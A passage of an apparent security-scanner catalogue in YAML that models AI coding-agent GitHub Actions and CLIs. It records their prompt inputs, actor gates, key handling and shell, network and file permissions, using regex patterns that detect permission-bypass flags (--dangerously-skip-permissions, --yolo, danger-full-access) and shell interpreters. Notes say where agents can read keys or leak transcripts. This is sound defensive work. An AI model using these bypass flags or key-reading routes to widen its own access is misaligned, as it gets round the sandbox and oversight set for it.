        pattern: '(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: full }
      - input: allowed_tools
        pattern: '(?<![\\w(])Bash\\((?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|env|eval|xargs|npx|bunx|uvx|deno)\\b'
        grants: { shell: full }
      - input: allowed_tools
        pattern: '(?<![\\w(])Bash\\('
        grants: { shell: restricted }
      - input: allowed_tools
        pattern: '(?<![\\w(])(?:WebFetch|WebSearch)\\b'
        grants: { network: true }
      - input: mcp_config
        pattern: '\\S'
        grants: { network: true }
      - input: plugins
        pattern: '\\S'
        grants: { network: true }
    toolNarrowers:
      - input: claude_args
        pattern: '--disallowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: none }
      - input: settings
        pattern: '"deny"\\s*:\\s*\\[[^\\]]*"Bash(?:\\(\\s*:?\\*?\\s*\\))?"'
        grants: { shell: none }
      - input: disallowed_tools
        pattern: '(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: none }
      # v0.0.34-v1.0.20: Squid egress allow-list.
      - input: experimental_allowed_domains
        pattern: '\\S'
        grants: { network: false }
    # execution_file is the path of the full transcript; structured_output is model JSON (--json-schema).
    outputs: [execution_file, structured_output]
    # show_full_output logs every message and tool result (auto-on with ACTIONS_STEP_DEBUG);
    # display_report writes Claude's output to the step summary.
    leakInputs: [show_full_output, display_report]
    confidence: V
    notes: >-
      v0/beta let any \`[bot]\` actor through the write check (no allowed_bots input); v1 checks the upstream
      actor on workflow_run. track_progress: true forces tag mode (thread fetched even with prompt). In PR
      contexts the action restores .claude/, .mcp.json, CLAUDE.md, CLAUDE.local.md, .husky/ from the base
      branch; other files stay at the PR head. allowed_non_write_users also turns on subprocess env scrubbing.

  # A2. anthropics/claude-code-base-action and anthropics/claude-code-action/base-action
  - id: claude-code-base-action
    name: Claude Code Base Action
    uses: [anthropics/claude-code-base-action, anthropics/claude-code-action/base-action]
    cli: claude
    promptInputs: [prompt, system_prompt, append_system_prompt]
    promptFileInputs: [prompt_file]
    configInputs:
      - claude_args
      - settings
      - plugins
      - plugin_marketplaces
      - path_to_claude_code_executable
      - allowed_tools
      - disallowed_tools
      - mcp_config
      - claude_env
      - model
      - anthropic_model
      - fallback_model
      - experimental_slash_commands_dir
    keyInputs: [anthropic_api_key, claude_code_oauth_token]
    keyHandling: process
    # README "Trust model": no actor check, no config restore.
    gate: { kind: none }
    readsThread: never
    # claude -p with the default permission mode: reads only; anything that would prompt is denied.
    defaults: { shell: none, network: false, writesFiles: false }
    toolWideners:
      - input: claude_args
        pattern: '--dangerously-skip-permissions\\b'
        grants: { shell: full, network: true, writesFiles: true }
      - input: claude_args
        pattern: '--permission-mode(?:\\s*=\\s*|\\s+)["'']?(?:bypassPermissions|auto)\\b'
        grants: { shell: full, network: true, writesFiles: true }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: full }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])Bash\\((?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|env|eval|xargs|npx|bunx|uvx|deno)\\b'
        grants: { shell: full }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])Bash\\('
        grants: { shell: restricted }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])(?:WebFetch|WebSearch)\\b'
        grants: { network: true }
      - input: claude_args
        pattern: '--mcp-config\\b'
        grants: { network: true }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])(?:Edit|Write|MultiEdit|NotebookEdit)\\b'
        grants: { writesFiles: true }
      - input: claude_args
        pattern: '--permission-mode(?:\\s*=\\s*|\\s+)["'']?acceptEdits\\b'
        grants: { writesFiles: true }
      - input: settings
        pattern: '"defaultMode"\\s*:\\s*"(?:bypassPermissions|auto)"'
        grants: { shell: full, network: true, writesFiles: true }
      - input: settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"Bash(?:\\(\\s*:?\\*?\\s*\\))?"'
        grants: { shell: full }
      - input: settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"Bash\\('
        grants: { shell: restricted }
      - input: settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"(?:WebFetch|WebSearch)'
        grants: { network: true }
      - input: settings
        pattern: '"mcpServers"\\s*:|"enableAllProjectMcpServers"\\s*:\\s*true'
        grants: { network: true }
      - input: settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"(?:Edit|Write|MultiEdit|NotebookEdit)|"defaultMode"\\s*:\\s*"acceptEdits"'
        grants: { writesFiles: true }
      - input: allowed_tools
        pattern: '(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: full }
      - input: allowed_tools
        pattern: '(?<![\\w(])Bash\\((?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|env|eval|xargs|npx|bunx|uvx|deno)\\b'
        grants: { shell: full }
      - input: allowed_tools
        pattern: '(?<![\\w(])Bash\\('
        grants: { shell: restricted }
      - input: allowed_tools
        pattern: '(?<![\\w(])(?:WebFetch|WebSearch)\\b'
        grants: { network: true }
      - input: allowed_tools
        pattern: '(?<![\\w(])(?:Edit|Write|MultiEdit|NotebookEdit)\\b'
        grants: { writesFiles: true }
      - input: mcp_config
        pattern: '\\S'
        grants: { network: true }
      - input: plugins
        pattern: '\\S'
        grants: { network: true }
    toolNarrowers:
      - input: claude_args
        pattern: '--disallowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: none }
      - input: settings
        pattern: '"deny"\\s*:\\s*\\[[^\\]]*"Bash(?:\\(\\s*:?\\*?\\s*\\))?"'
        grants: { shell: none }
      - input: disallowed_tools
        pattern: '(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: none }
    outputs: [execution_file, structured_output]
    leakInputs: [show_full_output]
    confidence: V
    notes: >-
      Repository .claude/settings.json, .mcp.json and CLAUDE.md are honoured and never restored from a
      base branch. CLAUDE_WORKING_DIR changes the working directory.

  # A3. anthropics/claude-code-security-review
  - id: claude-code-security-review
    name: Claude Code Security Review
    uses: [anthropics/claude-code-security-review]
    cli: claude
    # Fixed prompt that embeds the PR title, body and diff (claudecode/prompts.py).
    promptInputs: []
    promptFileInputs: [custom-security-scan-instructions, false-positive-filtering-instructions]
    configInputs: [claude-model, exclude-directories]
    keyInputs: [claude-api-key]
    keyHandling: process
    gate: { kind: none }
    readsThread: always
    # \`claude --output-format json\` without permission flags [U: exact default behaviour].
    defaults: { shell: none, network: false, writesFiles: false }
    outputs: [findings-count, results-file]
    leakInputs: [upload-results]
    confidence: V
    notes: >-
      The instruction-file inputs are paths in the checkout, PR-controlled when the head is checked out.
      Output names and upload-results as a leak are [U].

  # A4. openai/codex-action
  - id: codex-action
    name: Codex Action
    uses: [openai/codex-action]
    cli: codex
    promptInputs: [prompt]
    promptFileInputs: [prompt-file, output-schema-file]
    configInputs: [codex-args, output-schema, model, effort, codex-version, codex-home, sandbox, permission-profile, responses-api-endpoint]
    # openai_api_key is the pre-v1 spelling (seen in openai/codex issue-labeler@2ac4dba2).
    keyInputs: [openai-api-key, openai_api_key]
    # The key goes to codex-responses-api-proxy over stdin; codex only sees a loopback base_url.
    keyHandling: proxy
    keyWideners:
      # unsafe: no privilege drop, so the agent user keeps sudo and can read the proxy's memory.
      # read-only: "Codex will still run as the default user ... could read openai-api-key from memory".
      - input: safety-strategy
        pattern: '^\\s*(?:unsafe|read-only)\\s*$'
      # Pre-v1 releases had no proxy: the old input name means the key sits in the agent's environment [U].
      - input: openai_api_key
        pattern: '\\S'
    gate:
      kind: write-access   # checked on every event against GITHUB_ACTOR (admin, write or maintain)
      wideners:
        - input: allow-users          # list or \`*\`
          effect: anyone
        - input: allow-bots           # v1.0-v1.6: any [bot]; v1.7: dependabot/github-actions; v1.8: github-actions only
          effect: bots
          enablingValues: ['true']
        - input: allow-bot-users      # v1.7+; \`*\` rejected
          effect: bots
        - input: require_repo_write   # pre-v1 spelling of the same switch
          effect: anyone
          enablingValues: ['false']
    readsThread: never
    # \`codex exec --sandbox workspace-write\`: any command, inside a sandbox without network.
    defaults: { shell: full, network: false, writesFiles: true }
    toolWideners:
      - input: sandbox
        pattern: '^\\s*danger-full-access\\s*$'
        grants: { shell: full, network: true, writesFiles: true }
      - input: codex-args
        pattern: '--dangerously-bypass-approvals-and-sandbox|--yolo\\b|(?:^|[\\s"'',\\[])(?:-s|--sandbox)(?:\\s*=\\s*|["'',\\s]+)danger-full-access|sandbox_mode\\s*=\\s*\\\\?["'']?danger-full-access'
        grants: { shell: full, network: true, writesFiles: true }
      - input: codex-args
        pattern: 'network_access\\s*=\\s*true'
        grants: { network: true }
    toolNarrowers:
      - input: sandbox
        pattern: '^\\s*read-only\\s*$'
        grants: { writesFiles: false }
      - input: safety-strategy
        pattern: '^\\s*read-only\\s*$'
        grants: { writesFiles: false }
      - input: permission-profile
        pattern: '^\\s*:?read-only\\s*$'
        grants: { writesFiles: false }
    outputs: [final-message]
    confidence: V
    notes: >-
      Does not fetch issue/PR text itself. AGENTS.md and AGENTS.override.md in the checkout are read as
      instructions. drop-sudo is skipped when no openai-api-key is given (agent-guard's own proxy then owns
      the key, and hardening must come from agent-guard).

  # A5. google-github-actions/run-gemini-cli (and its predecessor name google-gemini/gemini-cli-action)
  - id: run-gemini-cli
    name: Run Gemini CLI
    uses: [google-github-actions/run-gemini-cli, google-gemini/gemini-cli-action]
    cli: gemini
    promptInputs: [prompt]
    # settings is written to .gemini/settings.json; extensions and gemini_cli_version (a git ref is built
    # from source) install code.
    configInputs: [settings, extensions, gemini_cli_version, gemini_model]
    # WIF inputs mint a cloud credential file into the workspace (GOOGLE_APPLICATION_CREDENTIALS).
    keyInputs: [gemini_api_key, google_api_key, gcp_workload_identity_provider]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    # \`gemini --yolo --prompt\` in every tag since v0.1.1.
    defaults: { shell: full, network: true, writesFiles: true }
    toolNarrowers:
      # Since 0.1.22 --yolo honours coreTools / tools.core. A core list without any shell tool: no shell.
      - input: settings
        pattern: '^(?![\\s\\S]*run_shell_command)[\\s\\S]*?"(?:coreTools|core)"\\s*:\\s*\\['
        grants: { shell: none }
      # Only parenthesised run_shell_command(...) entries (no bare "run_shell_command"): restricted.
      - input: settings
        pattern: '^(?![\\s\\S]*"run_shell_command")[\\s\\S]*?"(?:coreTools|core)"\\s*:\\s*\\[[^\\]]*"run_shell_command\\('
        grants: { shell: restricted }
      - input: settings
        pattern: '"(?:excludeTools|exclude)"\\s*:\\s*\\[[^\\]]*"run_shell_command"'
        grants: { shell: none }
      # A core tool list is an allowlist: without web_fetch / google_web_search the model has no web tools.
      - input: settings
        pattern: '^(?![\\s\\S]*(?:web_fetch|google_web_search|WebFetch|web_search))[\\s\\S]*?"(?:coreTools|core)"\\s*:\\s*\\['
        grants: { network: false }
    outputs: [summary, error]
    # gemini_debug streams responses to the log; upload_artifacts uploads stdout/stderr/telemetry logs.
    leakInputs: [gemini_debug, upload_artifacts]
    confidence: V
    notes: >-
      No actor check: the workflow \`if:\` is the only gate. "sandbox" in settings runs tools in a container
      but keeps the shell, so it is not modelled as narrowing. Since gemini-cli 0.39.1 workspace settings
      and .env load only when GEMINI_CLI_TRUST_WORKSPACE=true (the shipped examples set it).

  # A6. QwenLM/qwen-code-action (fork of run-gemini-cli)
  - id: qwen-code-action
    name: Qwen Code Action
    uses: [qwenlm/qwen-code-action]
    cli: qwen
    promptInputs: [prompt]
    # settings_json and upper-case OPENAI_* inputs are the early (v0.1.0-alpha) spellings.
    configInputs: [settings, settings_json, extensions, openai_model, openai_base_url, OPENAI_MODEL, OPENAI_BASE_URL, qwen_cli_version, version]
    keyInputs: [openai_api_key, OPENAI_API_KEY]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    # \`qwen --yolo --prompt\` (gemini-cli fork).
    defaults: { shell: full, network: true, writesFiles: true }
    toolNarrowers:
      - input: settings
        pattern: '^(?![\\s\\S]*run_shell_command)[\\s\\S]*?"(?:coreTools|core)"\\s*:\\s*\\['
        grants: { shell: none }
      - input: settings
        pattern: '^(?![\\s\\S]*"run_shell_command")[\\s\\S]*?"(?:coreTools|core)"\\s*:\\s*\\[[^\\]]*"run_shell_command\\('
        grants: { shell: restricted }
      - input: settings
        pattern: '"(?:excludeTools|exclude)"\\s*:\\s*\\[[^\\]]*"run_shell_command"'
        grants: { shell: none }
      # A core tool list is an allowlist: without web_fetch / google_web_search the model has no web tools.
      - input: settings
        pattern: '^(?![\\s\\S]*(?:web_fetch|google_web_search|WebFetch|web_search))[\\s\\S]*?"(?:coreTools|core)"\\s*:\\s*\\['
        grants: { network: false }
      - input: settings_json
        pattern: '^(?![\\s\\S]*run_shell_command)[\\s\\S]*?"(?:coreTools|core)"\\s*:\\s*\\['
        grants: { shell: none }
      - input: settings_json
        pattern: '^(?![\\s\\S]*"run_shell_command")[\\s\\S]*?"(?:coreTools|core)"\\s*:\\s*\\[[^\\]]*"run_shell_command\\('
        grants: { shell: restricted }
      - input: settings_json
        pattern: '"(?:excludeTools|exclude)"\\s*:\\s*\\[[^\\]]*"run_shell_command"'
        grants: { shell: none }
    outputs: [summary, error]
    leakInputs: [qwen_debug, upload_artifacts]
    confidence: V
    notes: >-
      Default upstream is DashScope (openai_base_url). \`error\` output is from the run-gemini-cli fork [U].

  # A7. actions/ai-inference (v1-v2: GitHub Models via the OpenAI SDK; v3 and provider: copilot: Copilot CLI -p)
  - id: ai-inference
    name: AI Inference
    uses: [actions/ai-inference]
    cli: copilot
    promptInputs: [prompt, system-prompt, input]
    promptFileInputs: [prompt-file, system-prompt-file, file_input]
    configInputs: [model, endpoint, custom-headers, github-mcp-toolsets, provider, copilot-cli-path, copilot-allow-tools, enable-github-mcp]
    # \`token\` (default github.token) is the model credential for GitHub Models.
    keyInputs: [token]
    tokenInputs: [github-mcp-token]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    toolWideners:
      # v1.2.0-v2.x: GitHub MCP tools (read issues/PRs; writes with a PAT).
      - input: enable-github-mcp
        pattern: '^\\s*true\\s*$'
        grants: { network: true }
      # v2.1+ / v3: Copilot CLI --allow-tool=T for each listed tool.
      - input: copilot-allow-tools
        pattern: '(?<![\\w(])shell(?:\\(\\s*\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: full }
      - input: copilot-allow-tools
        pattern: '(?<![\\w(])shell\\('
        grants: { shell: restricted }
      - input: copilot-allow-tools
        pattern: '(?<![\\w(])write\\b'
        grants: { writesFiles: true }
    outputs: [response, response-file]
    provider: github-models
    confidence: V
    notes: >-
      v3 is Copilot-only and has no endpoint/enable-github-mcp/github-mcp-token inputs. The CLI link
      (copilot) applies to v3 and provider: copilot; v1-v2 make a plain chat-completions call.

  # A8. opencode GitHub agent
  - id: opencode-github
    name: opencode GitHub Action
    uses: [anomalyco/opencode/github, sst/opencode/github]
    cli: opencode
    # Without \`prompt\` the triggering comment body is the prompt.
    promptInputs: [prompt]
    configInputs: [model, agent, variant, mentions, oidc_base_url]
    # Provider keys come from step env (ANTHROPIC_API_KEY, OPENCODE_API_KEY, ...), not inputs.
    keyHandling: process
    gate:
      kind: write-access   # assertPermissions() for user events: admin or write
      skippedOn: [schedule, workflow_dispatch]
      wideners:
        - input: allowed_bots   # list or \`*\` [U: implementation not read]
          effect: bots
    # fetchPR/fetchIssue: title, body, comments, reviews, commits, files, images in the comment.
    readsThread: always
    # Default opencode permissions in \`github run\` not verified [U].
    defaults: { shell: full, network: true, writesFiles: true }
    # share defaults to true for public repos: the session (prompt and tool output) is published on opencode.ai.
    leakInputs: [share]
    confidence: V
    notes: >-
      Fork PRs are checked out from the fork. OPENCODE_PERMISSION in env can restrict bash/edit/webfetch
      (see the opencode CLI entry). The leak via \`share\` is on by default for public repositories.

  # A9. Factory-AI/droid-action (claude-code-action fork)
  - id: droid-action
    name: Droid Action
    uses: [factory-ai/droid-action]
    cli: droid
    # No prompt input at HEAD: the trigger comment is the prompt; \`instructions\` feeds the CI steward.
    promptInputs: [instructions]
    configInputs: [settings, droid_args, review_model, fill_model, steward_model, config_path, path_to_droid_executable]
    keyInputs: [factory_api_key]
    tokenInputs: [github_token]
    keyHandling: process
    gate:
      kind: write-access
      skippedOn: [workflow_dispatch, repository_dispatch, schedule]   # [U] inherited from claude-code-action
      wideners:
        - input: allowed_non_write_users
          effect: anyone
          requiresInput: github_token
        - input: allowed_bots
          effect: bots
    readsThread: always
    # Every run is \`droid exec --skip-permissions-unsafe\` (base-action/src/run-droid.ts).
    defaults: { shell: full, network: true, writesFiles: true }
    toolNarrowers:
      - input: experimental_allowed_domains
        pattern: '\\S'
        grants: { network: false }
    leakInputs: [show_full_output]
    confidence: V
    notes: >-
      Uploads ~/.factory/logs and sessions as a debug artifact on every triggered run (public in public repos).

  # A10. warpdotdev/warp-agent-action and its successor warpdotdev/oz-agent-action
  - id: warp-agent-action
    name: Warp Agent Action
    uses: [warpdotdev/warp-agent-action]
    cli: warp-cli
    promptInputs: [prompt]
    configInputs: [saved_prompt, mcp, profile, model, cwd]
    keyInputs: [warp_api_key]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    # \`warp-cli agent run --prompt ... --sandboxed\` unless profile is set [U: what --sandboxed confines].
    defaults: { shell: full, network: false, writesFiles: true }
    toolWideners:
      - input: profile
        pattern: '\\S'
        grants: { network: true }
      - input: mcp
        pattern: '\\S'
        grants: { network: true }
    leakInputs: [share]
    confidence: V

  - id: oz-agent-action
    name: Oz Agent Action
    uses: [warpdotdev/oz-agent-action]
    cli: oz
    promptInputs: [prompt]
    configInputs: [saved_prompt, skill, mcp, profile, model, cwd, environment, host]
    keyInputs: [warp_api_key]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: full, network: false, writesFiles: true }
    toolWideners:
      - input: profile
        pattern: '\\S'
        grants: { network: true }
      - input: mcp
        pattern: '\\S'
        grants: { network: true }
    leakInputs: [share, debug]
    confidence: U
    notes: >-
      In CodeQL's prompt-injection sink list. Inputs read from the action.yml in the code index; runs
      \`oz agent run\` (or \`run-cloud\` with cloud: true, off the runner).

  # A11. goose (community action; block's own workflows run the CLI in \`run:\`)
  - id: goose-action
    name: goose-action (takutakahashi)
    uses: [takutakahashi/goose-action]
    cli: goose
    promptInputs: [prompt]
    promptFileInputs: [instructions_file]
    configInputs: [model, provider, repo, github_host]
    keyInputs: [openai_api_key, anthropic_api_key, claude_api_key, google_api_key, mistral_api_key, groq_api_key, openrouter_api_key]
    tokenInputs: [github_token]
    keyHandling: process
    gate: { kind: none }   # [U] internals not inspected
    readsThread: never     # [U]
    defaults: { shell: full, network: true, writesFiles: true }   # goose default mode [U]
    confidence: U

  # A12. aider (community docker action)
  - id: aider-github-action
    name: aider-github-action (mirrajabi)
    uses: [mirrajabi/aider-github-action]
    cli: aider
    # The prompt is inside aider_args (\`--message '...'\`).
    promptInputs: [aider_args]
    configInputs: [model, branch, api_key_env_name]
    keyInputs: [api_key_env_value, openai_api_key, anthropic_api_key, gemini_api_key, groq_api_key, cohere_api_key, deepseek_api_key, openrouter_api_key]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    # aider applies edits and commits without asking.
    defaults: { shell: none, network: false, writesFiles: true }
    toolWideners:
      - input: aider_args
        pattern: '(?:^|\\s)--yes(?:-always)?\\b'
        grants: { shell: full, network: true }
    confidence: V
    notes: '--yes-always auto-confirms suggested shell commands and URL scraping [U exact behaviour per version].'

  # A13. PR-Agent (docker action configured by env; comment body is the command)
  - id: pr-agent
    name: PR-Agent
    uses: [qodo-ai/pr-agent, codium-ai/pr-agent, codiumai/pr-agent, the-pr-agent/pr-agent]
    promptInputs: []
    keyHandling: process
    gate: { kind: none }
    readsThread: always
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: V
    notes: >-
      No inputs: keys arrive as env (OPENAI_KEY / OPENAI.KEY, ANTHROPIC.KEY, GOOGLE_AI_STUDIO.GEMINI_API_KEY)
      together with GITHUB_TOKEN. \`/ask ...\` comments are prompts. The docs' example gate
      (sender.type != 'Bot') is not an actor check. CodeQL lists CodiumAI/pr-agent with input \`prompt\`.

  # A14. coderabbitai/ai-pr-reviewer (stale since 2023)
  - id: coderabbit-ai-pr-reviewer
    name: CodeRabbit ai-pr-reviewer
    uses: [coderabbitai/ai-pr-reviewer]
    promptInputs: [system_message, summarize, summarize_release_notes, prompt]
    configInputs: [openai_base_url, openai_light_model, openai_heavy_model]
    keyHandling: process
    gate: { kind: none }
    readsThread: always
    defaults: { shell: none, network: false, writesFiles: false }
    provider: openai
    confidence: V
    notes: Key via env OPENAI_API_KEY. README recommends pull_request_target for fork PRs.

  # A15. OpenHands resolver (reusable workflow)
  - id: openhands-resolver
    name: OpenHands resolver
    uses:
      - openhands/openhands/.github/workflows/openhands-resolver.yml
      - all-hands-ai/openhands/.github/workflows/openhands-resolver.yml
      - all-hands-ai/openhands-resolver/.github/workflows/openhands-resolver.yml
    cli: openhands
    promptInputs: []
    configInputs: [macro, LLM_MODEL, LLM_API_VERSION, base_container_image, target_branch, pr_type, max_iterations, runner]
    # Passed under \`secrets:\` (LLM_API_KEY required; PAT_TOKEN becomes SANDBOX_ENV_GITHUB_TOKEN).
    keyInputs: [LLM_API_KEY]
    tokenInputs: [PAT_TOKEN]
    keyHandling: process
    # The callee's job \`if:\`: label fix-me / fix-me-experimental (any user with triage) or a comment with
    # the macro by OWNER, COLLABORATOR or MEMBER.
    gate: { kind: write-access }
    readsThread: always
    # Runs in a sandbox container, but with arbitrary commands and network.
    defaults: { shell: full, network: true, writesFiles: true }
    confidence: V
    notes: >-
      The label path needs triage, not write. \`-experimental\` installs openhands from git HEAD.

  # Not in the catalogue; taken from ../shared/corpus/realworld/labels.tsv (tend-triage, tend-review).
  - id: tend-claude
    name: tend claude (max-sixty/tend)
    uses: [max-sixty/tend/claude]
    cli: claude
    promptInputs: [prompt]
    configInputs: [model, bot_name]
    keyInputs: [claude_code_oauth_token, anthropic_api_key]
    tokenInputs: [github_token]
    # Runs Claude as a separate sandbox user with dummy credentials; a local mitmproxy injects the real
    # ones per host, so raw tokens cannot be read (the bot's write identity can still be used).
    keyHandling: proxy
    gate: { kind: none }
    # Its prompts are skill calls (\`/tend-ci-runner:triage <number>\`) that fetch the issue or PR themselves.
    readsThread: always
    defaults: { shell: full, network: true, writesFiles: true }   # claude -p with bypassPermissions
    confidence: U

  # ---------------------------------------------------------------------------------------------------
  # CodeQL prompt-injection sinks (actions/ql/lib/ext/manual/prompt_injection_sinks.model.yml) not covered
  # above. Prompt inputs as CodeQL lists them; no actor gate, key in process, no thread reading unless known.
  - id: ai-moderator
    name: GitHub AI Moderator
    uses: [github/ai-moderator]
    promptInputs: [prompt, custom-instructions]
    tokenInputs: [token]
    keyHandling: process
    gate: { kind: none }
    readsThread: always   # it classifies the triggering issue or comment
    defaults: { shell: none, network: false, writesFiles: false }
    provider: github-models
    confidence: 3P
  - id: gemini-code-assist-action
    name: Gemini Code Assist action
    uses: [google/gemini-code-assist-action, google-gemini/code-assist-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: openai-chat-completion-action
    name: OpenAI chat-completion action
    uses: [openai/chat-completion-action]
    promptInputs: [prompt, messages]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    provider: openai
    confidence: 3P
  - id: opencommit
    name: opencommit
    uses: [di-sukharev/opencommit]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never   # reads pushed commit diffs, not issue/PR text
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: openai-pr-description
    name: openai-pr-description
    uses: [platisd/openai-pr-description]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: always   # describes the PR from its diff and title [U]
    defaults: { shell: none, network: false, writesFiles: false }
    provider: openai
    confidence: 3P
  - id: arcee-agent-action
    name: Arcee agent action
    uses: [arcee-ai/agent-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: langsmith-action
    name: LangSmith action
    uses: [langchain-ai/langsmith-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: create-discussion-with-ai
    name: create-discussion-with-ai
    uses: [abirismyname/create-discussion-with-ai]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: yousefed-ai-action
    name: yousefed/ai-action
    uses: [yousefed/ai-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: openai-github-action
    name: openai-github-action
    uses: [nickscamara/openai-github-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    provider: openai
    confidence: 3P
  - id: openai-completion-action
    name: openai-completion-action
    uses: [austenstone/openai-completion-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    provider: openai
    confidence: 3P
  - id: gpt-review
    name: gpt-review
    uses: [joshspicer/gpt-review]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: always   # reviews the PR [U]
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: copilot-text-inference
    name: copilot-text-inference
    uses: [github/copilot-text-inference]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: together-action
    name: Together AI action
    uses: [togethercomputer/together-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: huggingface-inference-action
    name: Hugging Face inference action
    uses: [huggingface/inference-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: replicate-action
    name: Replicate action
    uses: [replicate/action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: never
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: quix-ci-ai-review
    name: quix-streams CI AI review
    uses: [quixio/quix-streams-ci-ai-review]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: always   # reviews the PR [U]
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P
  - id: rubberduck-review-action
    name: Rubberduck review action
    uses: [rubberduck-ai/rubberduck-review-action]
    promptInputs: [prompt]
    keyHandling: process
    gate: { kind: none }
    readsThread: always   # reviews the PR [U]
    defaults: { shell: none, network: false, writesFiles: false }
    confidence: 3P

# =====================================================================================================
# CLIs in \`run:\` steps. A command counts as an agent run unless it is an install, update, login,
# configuration or version/help command: \`infoFlags\` (anywhere before \`--\`) and \`nonRunSubcommands\` (first
# argument) say so per CLI; \`subcommands\` / \`requiredFlags\`, when given, must be present.
clis:
  # B1. Claude Code
  - id: claude
    name: Claude Code
    commands: [claude]
    packages: ['@anthropic-ai/claude-code']
    nonRunSubcommands: [install, update, upgrade, doctor, mcp, config, plugin, plugins, setup-token, migrate-installer, auth, login, logout]
    infoFlags: [--version, -v, --help, -h]
    valueFlags:
      - --model
      - --fallback-model
      - --output-format
      - --input-format
      - --permission-mode
      - --allowedTools
      - --allowed-tools
      - --disallowedTools
      - --disallowed-tools
      - --tools
      - --mcp-config
      - --system-prompt
      - --system-prompt-file
      - --append-system-prompt
      - --append-system-prompt-file
      - --add-dir
      - --max-turns
      - --settings
      - --setting-sources
      - --resume
      - -r
      - --session-id
      - --agents
      - --agent
      - --json-schema
      - --permission-prompt-tool
      - --plugin-dir
      - --max-budget-usd
      - --betas
    # -p/--print is not required: \`claude\` with a piped prompt also runs (claude-code-security-review).
    bypassFlags: [--dangerously-skip-permissions, --permission-mode=bypassPermissions, --permission-mode=auto]
    toolFlags: [--allowedTools, --allowed-tools]
    toolWideners:
      - input: --allowedTools
        pattern: '(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: full }
      - input: --allowed-tools
        pattern: '(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: full }
      - input: --allowedTools
